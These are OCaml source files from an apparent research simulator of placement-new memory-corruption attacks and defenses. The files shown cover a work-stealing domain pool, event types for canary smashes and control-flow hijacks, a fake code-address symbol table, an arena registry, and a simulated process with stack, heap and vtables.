        in
        reply_of_supervised ~chaos_seed:seed s
    in
    memo_store t key reply;
    account t reply ~restores:(Driver.restores p - restores_before)
      ~memo_hit:false;
    reply

(* --- client API --- *)

let submit t j = Pool.submit t.pool (fun ctx -> execute t ctx j)

let exec t j = Pool.await (submit t j)

(* Submission order is reply order: futures are awaited in sequence, so a
   batch is deterministic however the pool interleaves the work. *)
let run_batch t js = List.map Pool.await (List.map (submit t) js)

(* ------------------------------------------------------------------ *)
(* Canonical workloads                                                 *)

(* The full §5 experiment matrix as a job list. *)
let matrix_jobs ?(configs = Config.all) ?max_steps () =
  List.concat_map
    (fun (a : Catalog.t) ->
      List.map (fun config -> job ?max_steps ~config a) configs)
    All.attacks

(* A seeded synthetic request stream over the catalogue: every
   [chaos_every]-th request runs supervised under a generated fault plan,
   the rest are plain scenario runs. Deterministic in [seed]. *)
let synth_stream ?(chaos_every = 7) ~seed ~n () =
  let rng = Random.State.make [| 0x5e41ce; seed |] in
  let attacks = Array.of_list All.attacks in
  let configs = Array.of_list Config.all in
  List.init n (fun i ->
      let a = attacks.(Random.State.int rng (Array.length attacks)) in
      let config = configs.(Random.State.int rng (Array.length configs)) in
      let chaos_seed =
        if chaos_every > 0 && i mod chaos_every = chaos_every - 1 then
          Some (1 + Random.State.int rng 1000)
        else None
      in
      job ?chaos_seed ~max_steps:2_000_000 ~config a)

let now () = Unix.gettimeofday ()

(* Wall-clock a thunk: (result, seconds). *)
let timed f =
  let t0 = now () in
  let v = f () in
  (v, now () -. t0)
