(** A fixed-size pool of OCaml 5 domains draining per-worker job queues
    with work stealing.

    The original pool funneled every submit, every task take and every
    idle wait through one mutex + condition pair — at four domains the
    workers spent more time rendezvousing on that lock than executing
    (the dispatch path serialised exactly the work the pool exists to
    parallelise). Here each worker owns a private queue; submissions are
    placed round-robin, a worker drains its own queue first and steals
    from its siblings when empty, and the shared mutex is touched only to
    park/unpark (empty pool) and for shutdown. The hot dispatch path is
    one per-deque lock plus one atomic counter update.

    The total queued count is still the backpressure mechanism: [submit]
    blocks once [queue_cap] jobs are waiting across all deques, so a fast
    producer cannot outrun the workers by an unbounded margin. Each
    worker owns a private context built by [mk_ctx] *inside* its own
    domain — the service layer keeps its per-worker machine caches there,
    so no simulated machine is ever touched by two domains. *)

type 'a state = Pending | Done of 'a | Failed of exn

type 'a future = {
  f_mutex : Mutex.t;
  f_cond : Condition.t;
  mutable f_state : 'a state;
}

let fulfil fut v =
  Mutex.lock fut.f_mutex;
  fut.f_state <- v;
  Condition.broadcast fut.f_cond;
  Mutex.unlock fut.f_mutex

let await fut =
  Mutex.lock fut.f_mutex;
  let rec wait () =
    match fut.f_state with
    | Pending ->
      Condition.wait fut.f_cond fut.f_mutex;
      wait ()
    | Done v ->
      Mutex.unlock fut.f_mutex;
      v
    | Failed exn ->
      Mutex.unlock fut.f_mutex;
      raise exn
  in
  wait ()

let peek fut =
  Mutex.lock fut.f_mutex;
  let st = fut.f_state in
  Mutex.unlock fut.f_mutex;
  match st with Pending -> None | Done v -> Some (Ok v) | Failed e -> Some (Error e)

(* One worker's queue. A mutex per deque, never held while running a
   task: contention on any one lock is owner + occasional thief, not
   every domain in the pool. FIFO within a deque keeps batch order
   roughly arrival order, which the latency histograms prefer. *)
type 'ctx deque = {
  d_mutex : Mutex.t;
  d_q : ('ctx -> unit) Queue.t;
}

type 'ctx t = {
  jobs : int;
  queue_cap : int;
  deques : 'ctx deque array;  (** one per worker, index = worker id *)
  rr : int Atomic.t;  (** round-robin placement cursor for submissions *)
  queued : int Atomic.t;  (** tasks pushed but not yet taken, all deques *)
  submit_waiters : int Atomic.t;
      (** submitters blocked on [not_full]; workers consult it after
          decrementing [queued] so the common take never locks [mutex] *)
  mutex : Mutex.t;  (** parking, admission waits, [closing]; cold paths *)
  not_empty : Condition.t;  (** workers park here when the pool is empty *)
  not_full : Condition.t;  (** submitters park here at the cap *)
  mutable sleepers : int;  (** workers parked on [not_empty]; under [mutex] *)
  mutable closing : bool;
  mutable workers : unit Domain.t array;
}

(* How many workers a request for [n] actually gets: at least one, at most
   the hardware's recommended domain count — except that the ceiling never
   drops below 4, so a 4-way determinism check still exercises the
   concurrent path on small CI hosts (domains oversubscribe harmlessly). *)
let clamp_jobs n = max 1 (min n (max 4 (Domain.recommended_domain_count ())))

(* The minor heap is domain-local in OCaml 5 and spawned domains start at
   the runtime default (256k words). Interpreter workloads allocate hard,
   and every minor collection is a stop-the-world rendezvous across *all*
   domains — with several busy workers the default period makes the pool
   spend most of its time parked at barriers instead of executing jobs
   (measured 3x on the 32-job batch bench at 4 domains). Each worker
   therefore grows its own minor heap before taking work; [Gc.set] only
   resizes the calling domain, so this must run in the worker body. *)
let default_minor_words = 4 * 1024 * 1024

(* Take from one deque; on success [queued] is decremented inside the
   critical section, so "closing and [queued] = 0" reliably means every
   task is either finished or held by a running worker. *)
let take_from pool dq =
  Mutex.lock dq.d_mutex;
  let task = Queue.take_opt dq.d_q in
  (match task with
  | Some _ -> ignore (Atomic.fetch_and_add pool.queued (-1))
  | None -> ());
  Mutex.unlock dq.d_mutex;
  task

(* A submitter parked at the cap advertises itself in [submit_waiters]
   (incremented *before* it re-reads [queued]); the taker decrements
   [queued] before reading [submit_waiters]. Sequential consistency of
   the two atomics means at least one side sees the other, so the wakeup
   cannot be lost — and the wake only costs a mutex when someone is
   actually parked. *)
let wake_submitters pool =
  if Atomic.get pool.submit_waiters > 0 then begin
    Mutex.lock pool.mutex;
    Condition.broadcast pool.not_full;
    Mutex.unlock pool.mutex
  end

(* Own deque first; steal a task from a sibling otherwise. The scan
   starts at [i + 1] so thieves spread over victims instead of mobbing
   worker 0. *)
let try_take pool i =
  match take_from pool pool.deques.(i) with
  | Some _ as t ->
    wake_submitters pool;
    t
  | None ->
    if Atomic.get pool.queued = 0 then None
    else begin
      let n = Array.length pool.deques in
      let found = ref None in
      let k = ref 1 in
      while !found = None && !k < n do
        found := take_from pool pool.deques.((i + !k) mod n);
        incr k
      done;
      if !found <> None then wake_submitters pool;
      !found
    end

let worker pool ~minor_words mk_ctx i () =
  let g = Gc.get () in
  if g.Gc.minor_heap_size < minor_words then
    Gc.set { g with Gc.minor_heap_size = minor_words };
  let ctx = mk_ctx () in
  let rec loop () =
    match try_take pool i with
    | Some task ->
      task ctx;
      loop ()
    | None ->
      (* Nothing anywhere: park, unless draining is complete. The empty
         re-check runs under [mutex], and submitters publish (bump
         [queued], push, signal) under the same mutex — a worker
         committing to sleep cannot miss a concurrent submission. *)
      Mutex.lock pool.mutex;
      if Atomic.get pool.queued > 0 then begin
        Mutex.unlock pool.mutex;
        loop ()
      end
      else if pool.closing then Mutex.unlock pool.mutex  (* drain complete *)
      else begin
        pool.sleepers <- pool.sleepers + 1;
        Condition.wait pool.not_empty pool.mutex;
        pool.sleepers <- pool.sleepers - 1;
        Mutex.unlock pool.mutex;
        loop ()
      end
  in
  loop ()

let create ?(queue_cap = 64) ?(minor_words = default_minor_words) ~jobs ~mk_ctx
    () =
  if queue_cap < 1 then invalid_arg "Pool.create: queue_cap must be positive";
  let jobs = clamp_jobs jobs in
  let pool =
    {
      jobs;
      queue_cap;
      deques =
        Array.init jobs (fun _ ->
            { d_mutex = Mutex.create (); d_q = Queue.create () });
      rr = Atomic.make 0;
      queued = Atomic.make 0;
      submit_waiters = Atomic.make 0;
      mutex = Mutex.create ();
      not_empty = Condition.create ();
      not_full = Condition.create ();
      sleepers = 0;
      closing = false;
      workers = [||];
    }
  in
  pool.workers <-
    Array.init jobs (fun i -> Domain.spawn (worker pool ~minor_words mk_ctx i));
  pool

let jobs t = t.jobs

(* [notify] runs on the worker after the future is fulfilled — the hook a
   select loop uses to wake itself (write to a self-pipe) when a result
   becomes peekable. It must never kill the worker, so exceptions are
   swallowed. *)
let mk_task ?notify f fut ctx =
  (match f ctx with
  | v -> fulfil fut (Done v)
  | exception exn -> fulfil fut (Failed exn));
  match notify with
  | None -> ()
  | Some g -> ( try g () with _ -> ())

(* Place a task round-robin. Called with [t.mutex] held: admission,
   the [closing] check, the push and the sleeper wake form one atomic
   step against [shutdown], so an admitted task is always seen by the
   drain loop (lock order: [t.mutex] then [d_mutex], never reversed). *)
let push_locked t task =
  let i = Atomic.fetch_and_add t.rr 1 in
  let dq = t.deques.(i mod Array.length t.deques) in
  Atomic.incr t.queued;
  Mutex.lock dq.d_mutex;
  Queue.add task dq.d_q;
  Mutex.unlock dq.d_mutex;
  if t.sleepers > 0 then Condition.signal t.not_empty

let submit ?notify t f =
  let fut = { f_mutex = Mutex.create (); f_cond = Condition.create (); f_state = Pending } in
  let task = mk_task ?notify f fut in
  Mutex.lock t.mutex;
  if t.closing then begin
    Mutex.unlock t.mutex;
    invalid_arg "Pool.submit: pool is shut down"
  end;
  Atomic.incr t.submit_waiters;
  while Atomic.get t.queued >= t.queue_cap && not t.closing do
    Condition.wait t.not_full t.mutex
  done;
  Atomic.decr t.submit_waiters;
  if t.closing then begin
    Mutex.unlock t.mutex;
    invalid_arg "Pool.submit: pool is shut down"
  end;
  push_locked t task;
  Mutex.unlock t.mutex;
  fut

(* Non-blocking admission: [None] when the queue is full or the pool is
   closing, instead of stalling the caller. A server's accept loop must
   never block on its own backpressure — it sheds instead. *)
let try_submit ?notify t f =
  let fut = { f_mutex = Mutex.create (); f_cond = Condition.create (); f_state = Pending } in
  let task = mk_task ?notify f fut in
  Mutex.lock t.mutex;
  if t.closing || Atomic.get t.queued >= t.queue_cap then begin
    Mutex.unlock t.mutex;
    None
  end
  else begin
    push_locked t task;
    Mutex.unlock t.mutex;
    Some fut
  end

(* Stop accepting work, let the workers drain what is queued, join them. *)
let shutdown t =
  Mutex.lock t.mutex;
  t.closing <- true;
  Condition.broadcast t.not_empty;
  Condition.broadcast t.not_full;
  Mutex.unlock t.mutex;
  Array.iter Domain.join t.workers
