(** A fixed-size pool of OCaml 5 domains draining a bounded job queue.

    The queue is the backpressure mechanism: [submit] blocks once
    [queue_cap] jobs are waiting, so a fast producer cannot outrun the
    workers by an unbounded margin. Each worker owns a private context
    built by [mk_ctx] *inside* its own domain — the service layer keeps
    its per-worker machine caches there, so no simulated machine is ever
    touched by two domains. *)

type 'a state = Pending | Done of 'a | Failed of exn

type 'a future = {
  f_mutex : Mutex.t;
  f_cond : Condition.t;
  mutable f_state : 'a state;
}

let fulfil fut v =
  Mutex.lock fut.f_mutex;
  fut.f_state <- v;
  Condition.broadcast fut.f_cond;
  Mutex.unlock fut.f_mutex

let await fut =
  Mutex.lock fut.f_mutex;
  let rec wait () =
    match fut.f_state with
    | Pending ->
      Condition.wait fut.f_cond fut.f_mutex;
      wait ()
    | Done v ->
      Mutex.unlock fut.f_mutex;
      v
    | Failed exn ->
      Mutex.unlock fut.f_mutex;
      raise exn
  in
  wait ()

let peek fut =
  Mutex.lock fut.f_mutex;
  let st = fut.f_state in
  Mutex.unlock fut.f_mutex;
  match st with Pending -> None | Done v -> Some (Ok v) | Failed e -> Some (Error e)

type 'ctx t = {
  jobs : int;
  queue_cap : int;
  mutex : Mutex.t;
  not_empty : Condition.t;
  not_full : Condition.t;
  queue : ('ctx -> unit) Queue.t;
  mutable closing : bool;
  mutable workers : unit Domain.t array;
}

(* How many workers a request for [n] actually gets: at least one, at most
   the hardware's recommended domain count — except that the ceiling never
   drops below 4, so a 4-way determinism check still exercises the
   concurrent path on small CI hosts (domains oversubscribe harmlessly). *)
let clamp_jobs n = max 1 (min n (max 4 (Domain.recommended_domain_count ())))

(* The minor heap is domain-local in OCaml 5 and spawned domains start at
   the runtime default (256k words). Interpreter workloads allocate hard,
   and every minor collection is a stop-the-world rendezvous across *all*
   domains — with several busy workers the default period makes the pool
   spend most of its time parked at barriers instead of executing jobs
   (measured 3x on the 32-job batch bench at 4 domains). Each worker
   therefore grows its own minor heap before taking work; [Gc.set] only
   resizes the calling domain, so this must run in the worker body. *)
let default_minor_words = 4 * 1024 * 1024

let worker pool ~minor_words mk_ctx () =
  let g = Gc.get () in
  if g.Gc.minor_heap_size < minor_words then
    Gc.set { g with Gc.minor_heap_size = minor_words };
  let ctx = mk_ctx () in
  let rec loop () =
    Mutex.lock pool.mutex;
    while Queue.is_empty pool.queue && not pool.closing do
      Condition.wait pool.not_empty pool.mutex
    done;
    match Queue.take_opt pool.queue with
    | None ->
      (* empty and closing: drain complete *)
      Mutex.unlock pool.mutex;
      ()
    | Some task ->
      Condition.signal pool.not_full;
      Mutex.unlock pool.mutex;
      task ctx;
      loop ()
  in
  loop ()

let create ?(queue_cap = 64) ?(minor_words = default_minor_words) ~jobs ~mk_ctx
    () =
  if queue_cap < 1 then invalid_arg "Pool.create: queue_cap must be positive";
  let jobs = clamp_jobs jobs in
  let pool =
    {
      jobs;
      queue_cap;
      mutex = Mutex.create ();
      not_empty = Condition.create ();
      not_full = Condition.create ();
      queue = Queue.create ();
      closing = false;
      workers = [||];
    }
  in
  pool.workers <-
    Array.init jobs (fun _ -> Domain.spawn (worker pool ~minor_words mk_ctx));
  pool

let jobs t = t.jobs

(* [notify] runs on the worker after the future is fulfilled — the hook a
   select loop uses to wake itself (write to a self-pipe) when a result
   becomes peekable. It must never kill the worker, so exceptions are
   swallowed. *)
let mk_task ?notify f fut ctx =
  (match f ctx with
  | v -> fulfil fut (Done v)
  | exception exn -> fulfil fut (Failed exn));
  match notify with
  | None -> ()
  | Some g -> ( try g () with _ -> ())

let submit ?notify t f =
  let fut = { f_mutex = Mutex.create (); f_cond = Condition.create (); f_state = Pending } in
  let task = mk_task ?notify f fut in
  Mutex.lock t.mutex;
  if t.closing then begin
    Mutex.unlock t.mutex;
    invalid_arg "Pool.submit: pool is shut down"
  end;
  while Queue.length t.queue >= t.queue_cap && not t.closing do
    Condition.wait t.not_full t.mutex
  done;
  if t.closing then begin
    Mutex.unlock t.mutex;
    invalid_arg "Pool.submit: pool is shut down"
  end;
  Queue.add task t.queue;
  Condition.signal t.not_empty;
  Mutex.unlock t.mutex;
  fut

(* Non-blocking admission: [None] when the queue is full or the pool is
   closing, instead of stalling the caller. A server's accept loop must
   never block on its own backpressure — it sheds instead. *)
let try_submit ?notify t f =
  let fut = { f_mutex = Mutex.create (); f_cond = Condition.create (); f_state = Pending } in
  let task = mk_task ?notify f fut in
  Mutex.lock t.mutex;
  if t.closing || Queue.length t.queue >= t.queue_cap then begin
    Mutex.unlock t.mutex;
    None
  end
  else begin
    Queue.add task t.queue;
    Condition.signal t.not_empty;
    Mutex.unlock t.mutex;
    Some fut
  end

(* Stop accepting work, let the workers drain what is queued, join them. *)
let shutdown t =
  Mutex.lock t.mutex;
  t.closing <- true;
  Condition.broadcast t.not_empty;
  Condition.broadcast t.not_full;
  Mutex.unlock t.mutex;
  Array.iter Domain.join t.workers
