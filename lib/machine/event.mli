(** Security-relevant events observed while a program executes — the
    ground truth the experiment harness reports on. *)

type t =
  | Canary_smashed of { func : string; expected : int; found : int }
  | Return_hijacked of {
      func : string;
      legit : int;
      actual : int;
      symbol : string option;
      tainted : bool;
    }
  | Frame_pointer_corrupted of { func : string; legit : int; actual : int }
  | Shadow_stack_blocked of { func : string; actual : int }
  | Bounds_blocked of { site : string; arena : int; placed : int }
  | Nx_blocked of { addr : int }
  | Arena_sanitized of { addr : int; len : int }
  | Out_of_memory of { requested : int; in_use : int }
  | Heap_corrupted of { addr : int; detail : string }
  | Placement of { site : string; addr : int; size : int; arena : int option }
  | Vptr_hijacked of { class_ : string; addr : int; actual : int; tainted : bool }
  | Fun_ptr_hijacked of {
      name : string;
      actual : int;
      symbol : string option;
      tainted : bool;
    }

exception Security_stop of t
(** Raised when a defense terminates the program. *)

val pp : Format.formatter -> t -> unit
val to_string : t -> string

val is_blocking : t -> bool
(** Did a defense stop the program here? *)

val is_hijack : t -> bool
(** Control data (return address / vptr / function pointer) redirected. *)

val kind : t -> string
(** Stable snake_case tag of the constructor — metric label and trace
    span name ("canary_smashed", "return_hijacked", ...). *)

(** {1 JSONL encoding}

    One object per event, tagged by {!kind}. [of_json] is total over
    [to_json] output. *)

val to_json : t -> Pna_telemetry.Jsonx.t
val of_json : Pna_telemetry.Jsonx.t -> (t, string) result
