(** The text (code) image: function names <-> fake code addresses. What
    matters to the attacks is whether corrupted control data resolves to a
    legitimate symbol (arc injection) or not (code injection / crash). *)

type t

val slot_size : int
(** Bytes reserved per function (16). *)

val create : base:int -> size:int -> t

val register : t -> string -> int
(** Idempotent: re-registering returns the existing address. *)

val address : t -> string -> int option
val address_exn : t -> string -> int

val symbol_at : t -> int -> string option
(** The symbol whose slot contains the address, if any. *)

val return_site : t -> string -> int
(** A plausible return address inside the named function (entry + 5). *)

val symbols : t -> (string * int) list
(** Sorted by address. *)

type snapshot

val snapshot : t -> snapshot
val restore : t -> snapshot -> unit
