(** The text (code) image: function names <-> fake code addresses. What
    matters to the attacks is whether corrupted control data resolves to a
    legitimate symbol (arc injection) or not (code injection / crash). *)

type t

val slot_size : int
(** Bytes reserved per function (16). *)

exception Full of { requested : int; used : int }
(** Raised by {!register} when the segment has no room for another slot;
    [Machine.register_function] converts it to a classified
    out-of-memory outcome. *)

val create : base:int -> size:int -> t

val register : t -> string -> int
(** Idempotent: re-registering returns the existing address.
    @raise Full when the text segment is exhausted. *)

val address : t -> string -> int option
val address_exn : t -> string -> int

val symbol_at : t -> int -> string option
(** The symbol whose slot contains the address, if any. *)

val return_site : t -> string -> int
(** A plausible return address inside the named function (entry + 5). *)

val symbols : t -> (string * int) list
(** Sorted by address. *)

type snapshot

val snapshot : t -> snapshot

val restore : ?force:bool -> t -> snapshot -> unit
(** Rebuild the symbol tables from the snapshot. Skipped when a
    generation token proves them unchanged, unless [force] (the
    full-copy reference path). *)
