(** Registry of live allocations ("arenas"): globals, stack locals, heap
    blocks, pools. Backs the bounds-checked placement defense and attack
    forensics. *)

type origin =
  | Global of string
  | Local of { func : string; var : string }
  | Heap_block
  | Pool of string

type arena = { a_base : int; a_size : int; a_origin : origin }
type t

val create : unit -> t
val register : t -> base:int -> size:int -> origin:origin -> unit
val unregister : t -> base:int -> unit

val find : t -> int -> arena option
(** The innermost (smallest) arena containing the address. *)

val remaining : t -> int -> int option
(** Bytes available in the backing arena starting at the address. *)

val limit : arena -> int
val origin_name : origin -> string
val pp_arena : Format.formatter -> arena -> unit
val count : t -> int

type snapshot

val snapshot : t -> snapshot
val restore : t -> snapshot -> unit
