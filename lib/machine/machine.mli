(** The simulated process: address space + object model + control state.

    Owns the memory image (text/rodata/data/bss/heap/stack), the call stack
    with optional canaries and shadow stack, the in-memory heap allocator,
    the arena registry, the vtable images and the attacker input stream.
    The MiniC++ interpreter drives it; the {!Config} decides which defense
    checks fire. *)

module Config = Pna_defense.Config

type ret_status =
  | Returned
  | Hijacked of { target : int; symbol : string option; tainted : bool }

type dispatch_result =
  | Virtual_ok of string  (** impl symbol found in the vtable slot *)
  | Virtual_hijacked of { target : int; symbol : string option; tainted : bool }

type t

(** {1 Address map (ELF-flavoured constants)} *)

val text_base : int
val rodata_base : int
val data_base : int
val bss_base : int
val heap_base : int
val default_heap_size : int
val stack_top : int
val stack_base : int

(** {1 Lifecycle and accessors} *)

val create : ?heap_size:int -> config:Config.t -> Pna_layout.Layout.env -> t
val config : t -> Config.t
val mem : t -> Pna_vmem.Vmem.t
val env : t -> Pna_layout.Layout.env
val heap_stats : t -> Heap.stats
val arenas : t -> Arena.t
val emit : t -> Event.t -> unit

val set_chaos : t -> Pna_vmem.Vmem.chaos_hook option -> unit
(** Install a byte-level fault-injection hook on the address space. *)

val set_chaos_alloc : t -> (int -> bool) option -> unit
(** Install an allocation fault-injection hook on the heap. *)

val attach_sanitizer : t -> Pna_sanitizer.Sanitizer.t option -> unit
(** Wire a shadow-memory oracle (PNASan) through the machine: heap
    redzones + free quarantine, live frames' control slots, and — from
    here on — frame pushes and placement-new geometry. The sanitizer
    must have been created over this machine's address space
    ({!Pna_sanitizer.Sanitizer.attach} on {!mem}). Pass [None] to
    detach the machine layers (the Vmem observer is the sanitizer's
    own). *)

val sanitizer : t -> Pna_sanitizer.Sanitizer.t option

val events : t -> Event.t list
(** Oldest first. *)

(** {1 Snapshot / restore} *)

type snapshot

val snapshot : t -> snapshot
(** Freeze the whole simulated process: address space (contents, taint,
    permissions, write trace) plus call stack, shadow stack, allocator
    bookkeeping, arena registry, symbol table, segment cursors,
    vtable/global/literal tables and the input/output streams. Taken after
    {!Pna_minicpp.Interp.load}, it lets a serving layer rewind a prepared
    machine between requests instead of rebuilding the image. *)

val restore : t -> snapshot -> unit
(** Rewind to the snapshot. Chaos hooks are cleared: a restored machine
    behaves exactly like a freshly loaded one. Rewinds are copy-on-write
    end to end — segment and shadow pages blit dirty runs only, and the
    symbol/vtable/global/literal tables rebuild only when a generation
    token proves they were mutated — with results bit-identical to the
    full-copy reference path (the E20 gate). *)

val set_cow : t -> bool -> unit
(** Enable (default) or disable copy-on-write rewinds for the address
    space and any attached sanitizer; disabling forces the full-copy
    reference path the E20 equivalence gate compares against. *)

(** {1 Text symbols and vtables} *)

val register_function : t -> string -> int
(** @raise Event.Security_stop as a classified out-of-memory outcome
    when the text segment has no room for another function slot. *)

val function_addr : t -> string -> int
val symbol_at : t -> int -> string option

val emit_vtables : t -> unit
(** Write primary and secondary vtable images into read-only memory. Call
    after all classes are defined and impl symbols registered. *)

val intern_string : ?tainted:bool -> t -> string -> int
(** NUL-terminated, in read-only memory; untainted literals deduplicated. *)

val vtable_addr : t -> string -> int option
(** The class' primary vtable. *)

val class_of_vtable : t -> int -> string option

val install_vptrs : t -> addr:int -> cname:string -> unit
(** Ordinary data writes of the object's vtable pointer(s): later
    overflows can clobber them (§3.8.2). *)

val dispatch : t -> obj_addr:int -> static_class:string -> meth:string -> dispatch_result
(** Virtual dispatch through simulated memory: subobject vptr + slot read.
    Multiple-inheritance calls use the introducing base's vptr and table. *)

(** {1 Globals} *)

val add_global : ?initialized:bool -> t -> string -> Pna_layout.Ctype.t -> int
(** Allocates in data ([initialized]) or bss, registers the arena, returns
    the address. @raise Invalid_argument on duplicates.
    @raise Event.Security_stop as a classified out-of-memory outcome when
    the segment is exhausted. *)

val global : t -> string -> (int * Pna_layout.Ctype.t) option
val global_addr_exn : t -> string -> int

(** {1 Stack frames} *)

val push_frame : t -> func:string -> ret_to:int -> Frame.t
val current_frame : t -> Frame.t
val alloc_local : t -> name:string -> ty:Pna_layout.Ctype.t -> int

val lookup_var : t -> string -> (int * Pna_layout.Ctype.t) option
(** Innermost frame's locals, then globals. *)

val pop_frame : t -> ret_status
(** Verifies the canary (raising {!Event.Security_stop} on a smash),
    checks the shadow stack, records frame-pointer corruption, restores
    sp/fp, and reads the return address back from memory — reporting a
    hijack when it changed. *)

val in_executable : t -> int -> bool

(** {1 Heap} *)

val malloc : t -> int -> int
(** @raise Event.Security_stop with [Out_of_memory] when exhausted. *)

val free : t -> int -> unit

val delete_placed : t -> int -> placed_size:int -> unit
(** Delete through a placement-new pointer: frees only [placed_size] bytes
    (§4.5) unless pool discipline is configured. *)

val leaked_bytes : t -> int

(** {1 Placement new} *)

type placement = { p_addr : int; p_arena : int option }

val placement_new :
  ?cname:string ->
  ?align:int ->
  ?declared:int ->
  t ->
  site:string ->
  addr:int ->
  size:int ->
  placement
(** The primitive under study: emits an audit event and — only when the
    respective defenses are on — bounds-checks against the backing arena
    and/or sanitizes it. Installs vptrs for class placements. [declared]
    is the static extent of the object the place expression names (when
    it names one); only the sanitizer's shadow geometry uses it — the
    defenses see the registered arena, whose blind spots are the point.
    @raise Pna_vmem.Fault.Fault on a null target, or on a misaligned one
    under strict alignment.
    @raise Event.Security_stop when the bounds check blocks it. *)

(** {1 Attacker input and program output} *)

val set_input : ?ints:int list -> ?strings:string list -> t -> unit

val next_int : t -> int
(** 0 at end of input, like a failed [cin]. *)

val next_string : t -> string
(** Empty at end of input. *)

val print : t -> string -> unit

val output : t -> string list
(** Oldest first. *)

val pp_events : Format.formatter -> t -> unit
