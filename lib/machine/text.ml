(** The text (code) image: a symbol table mapping function names to fake
    code addresses and back.

    The simulator never executes machine code; a "function address" is an
    opaque 32-bit value inside the text segment. What matters for the
    attacks is exactly what matters on real hardware: whether a corrupted
    return address / function pointer / vtable slot resolves to a legitimate
    symbol (arc injection, §3.6.2) or to attacker-chosen bytes (code
    injection / crash). *)

type t = {
  base : int;
  limit : int;
  mutable next : int;
  by_name : (string, int) Hashtbl.t;
  by_addr : (int, string) Hashtbl.t;
  mutable gen : int;  (* generation token; see [Pna_vmem.Cow.fresh_gen] *)
}

(* Each function gets a 16-byte slot; call sites live at +5 (the width of a
   call instruction on x86), purely for realistic-looking addresses. *)
let slot_size = 16

exception Full of { requested : int; used : int }

let create ~base ~size =
  {
    base;
    limit = base + size;
    next = base;
    by_name = Hashtbl.create 32;
    by_addr = Hashtbl.create 32;
    gen = Pna_vmem.Cow.fresh_gen ();
  }

let register t name =
  match Hashtbl.find_opt t.by_name name with
  | Some addr -> addr
  | None ->
    if t.next + slot_size > t.limit then
      raise (Full { requested = slot_size; used = t.next - t.base });
    let addr = t.next in
    t.next <- t.next + slot_size;
    Hashtbl.replace t.by_name name addr;
    Hashtbl.replace t.by_addr addr name;
    t.gen <- Pna_vmem.Cow.fresh_gen ();
    addr

let address t name = Hashtbl.find_opt t.by_name name

let address_exn t name =
  match address t name with
  | Some a -> a
  | None -> Fmt.invalid_arg "Text: unknown symbol %s" name

(* Resolve an address to the symbol whose slot contains it. *)
let symbol_at t addr =
  let slot = addr - ((addr - t.base) mod slot_size) in
  if addr < t.base || addr >= t.limit then None
  else Hashtbl.find_opt t.by_addr slot

let return_site t name = address_exn t name + 5

type snapshot = {
  sn_next : int;
  sn_by_name : (string, int) Hashtbl.t;
  sn_by_addr : (int, string) Hashtbl.t;
  sn_gen : int;
}

let snapshot t =
  {
    sn_next = t.next;
    sn_by_name = Hashtbl.copy t.by_name;
    sn_by_addr = Hashtbl.copy t.by_addr;
    sn_gen = t.gen;
  }

(* A matching generation token proves the table was not mutated since
   the snapshot ([register] mints a fresh token), so the rebuild can be
   skipped — symbol tables are load-time state, so on the service's
   rewind path this is every time. [force] takes the unconditional
   rebuild path (the E20 reference behaviour). *)
let restore ?(force = false) t snap =
  if force || t.gen <> snap.sn_gen then begin
    t.next <- snap.sn_next;
    Hashtbl.reset t.by_name;
    Hashtbl.iter (Hashtbl.replace t.by_name) snap.sn_by_name;
    Hashtbl.reset t.by_addr;
    Hashtbl.iter (Hashtbl.replace t.by_addr) snap.sn_by_addr;
    t.gen <- snap.sn_gen
  end

let symbols t =
  Hashtbl.fold (fun name addr acc -> (name, addr) :: acc) t.by_name []
  |> List.sort (fun (_, a) (_, b) -> compare a b)
