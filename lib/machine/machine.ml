(** The simulated process: address space + object model + control state.

    This module owns everything a running MiniC++ program touches: the
    memory image (text/data/bss/heap/stack), the call stack with optional
    canaries and shadow stack, the heap allocator, the arena registry, the
    vtable images, and the attacker-controlled input stream. The
    interpreter in [Pna_minicpp] drives it; the defense configuration
    decides which checks fire. *)

open Pna_layout

module Config = Pna_defense.Config
module San = Pna_sanitizer.Sanitizer

type ret_status =
  | Returned
  | Hijacked of { target : int; symbol : string option; tainted : bool }

type dispatch_result =
  | Virtual_ok of string  (** impl symbol found in the vtable slot *)
  | Virtual_hijacked of { target : int; symbol : string option; tainted : bool }

type t = {
  mem : Pna_vmem.Vmem.t;
  env : Layout.env;
  config : Config.t;
  text : Text.t;
  heap : Heap.t;
  arenas : Arena.t;
  mutable sp : int;
  mutable fp : int;
  mutable frames : Frame.t list;
  mutable shadow : int list;
  mutable events : Event.t list;  (** newest first *)
  mutable data_cursor : int;
  mutable bss_cursor : int;
  mutable rodata_cursor : int;
  vtable_addrs : (string, (int * int) list) Hashtbl.t;
      (* class -> [(vptr offset, table address)]; offset 0 is primary *)
  vtable_classes : (int, string * int) Hashtbl.t;
      (* table address -> (class, vptr offset) *)
  globals : (string, int * Ctype.t) Hashtbl.t;
  literals : (string, int) Hashtbl.t;  (** interned untainted strings *)
  mutable tbl_gen : int;
      (* generation token over the four tables above; minted fresh at
         every mutation so [restore] can prove them unchanged *)
  mutable cow : bool;  (* false forces full-copy restores at every layer *)
  mutable input_ints : int list;
  mutable input_strings : string list;
  mutable output : string list;  (** newest first *)
  mutable san : San.t option;  (** attached shadow-memory oracle *)
}

(* Fixed address map, ELF-flavoured (cf. the paper's footnote 3). *)
let text_base = 0x08048000
let text_size = 0x8000
let rodata_base = 0x08050000 (* vtable images *)
let rodata_size = 0x10000
let data_base = 0x08060000
let data_size = 0x10000
let bss_base = 0x08080000
let bss_size = 0x20000
let heap_base = 0x080a0000
let default_heap_size = 0x40000
let stack_top = 0xc0000000
let stack_size = 0x20000
let stack_base = stack_top - stack_size

let create ?(heap_size = default_heap_size) ~config env =
  let mem = Pna_vmem.Vmem.create () in
  let open Pna_vmem in
  ignore (Vmem.map mem ~kind:Segment.Text ~base:text_base ~size:text_size ~perm:Perm.rx);
  ignore (Vmem.map mem ~kind:Segment.Mmap ~base:rodata_base ~size:rodata_size ~perm:Perm.ro);
  ignore (Vmem.map mem ~kind:Segment.Data ~base:data_base ~size:data_size ~perm:Perm.rw);
  ignore (Vmem.map mem ~kind:Segment.Bss ~base:bss_base ~size:bss_size ~perm:Perm.rw);
  ignore (Vmem.map mem ~kind:Segment.Heap ~base:heap_base ~size:heap_size ~perm:Perm.rw);
  ignore
    (Vmem.map mem ~kind:Segment.Stack ~base:stack_base ~size:stack_size
       ~perm:(if config.Config.nx_stack then Perm.rw else Perm.rwx));
  {
    mem;
    env;
    config;
    text = Text.create ~base:text_base ~size:text_size;
    heap = Heap.create mem ~base:heap_base ~size:heap_size;
    arenas = Arena.create ();
    sp = stack_top;
    fp = stack_top;
